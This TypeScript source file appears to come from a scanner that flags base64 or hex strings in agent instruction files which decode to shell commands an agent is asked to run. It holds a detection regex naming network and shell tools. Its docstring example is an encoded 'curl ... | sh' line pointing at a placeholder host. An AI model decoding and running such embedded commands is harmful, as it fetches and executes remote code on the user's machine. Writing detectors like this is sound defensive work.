/**
 * Commands hidden in an encoding inside the instructions themselves: a
 * base64 or hex string in prose that decodes to a command or a URL, which
 * the text around it asks the agent to decode and run. Pure.
 */
import type { Diagnostic } from '../model/diagnostics.js';
import { unbase64, unhex } from './code/value.js';
import { finding, quote } from './input.js';
import type { Located } from './markdown.js';

const TOKEN = /(?:^|[\s"'`(:])([A-Za-z0-9+/]{24,}={0,2}|(?:[0-9a-fA-F]{2}){16,})(?=$|[\s"'`).,;])/g;
const COMMAND = /\b(?:curl|wget|bash|sh|zsh|powershell|pwsh|iex|python3?|node|nc|rm|chmod|eval|exec)\b|https?:\/\//;

/**
 * Encoded commands in prose lines (raw lines, code spans included).
 *
 * @example
 * encodedProseFindings([{ line: 5, column: 1, text: 'Y3VybCBodHRwOi8veC55IHwgc2g=' }], 's/SKILL.md',
 * false)[0].code // 'security.decode-exec'
 */
export function encodedProseFindings(lines: readonly Located[], file: string, docs: boolean): Diagnostic[] {
  const out: Diagnostic[] = [];
  // Perf: a whole-file search for a long unbroken run first.
  if (!lines.some((l) => hasLongRun(l.text))) return out;
  for (const l of lines) {
    if (l.text.length < 24) continue;
    for (const m of l.text.matchAll(TOKEN)) {
      const token = m[1]!;
      const decoded = /^[0-9a-fA-F]+$/.test(token) ? unhex(token) : unbase64(token);
      if (!decoded || !COMMAND.test(decoded) || !/\s/.test(decoded)) continue;
      out.push(
        finding(
          'security.decode-exec',
          file,
          l.line,
          l.column + (m.index ?? 0),
          `an encoded command in the instructions decodes to "${quote(decoded, 80)}"`,
          docs ? 'warning' : 'error',
        ),
      );
      break;
    }
  }
  return out;
}

/**
 * True when `text` holds 24 base64 characters in a row (a linear scan: no regex over the whole file).
 * A line break breaks a run, so a text without one has no line with one.
 *
 * @example hasLongRun('Y3VybCBodHRwOi8veC55IHwgc2g=') // true
 */
export function hasLongRun(text: string): boolean {
  // Perf: a run of 24 from `start` covers `start + 23`: that character is read first, then back to the last
  // break, so prose is read a few characters per word instead of every one.
  let start = 0;
  while (start + 24 <= text.length) {
    const end = start + 23;
    let back = end;
    while (back >= start && isBase64(text.charCodeAt(back))) back--;
    if (back < start) return true;
    start = back + 1;
  }
  return false;
}

function isBase64(c: number): boolean {
  return (c >= 48 && c <= 57) || (c >= 65 && c <= 90) || (c >= 97 && c <= 122) || c === 43 || c === 47;
}
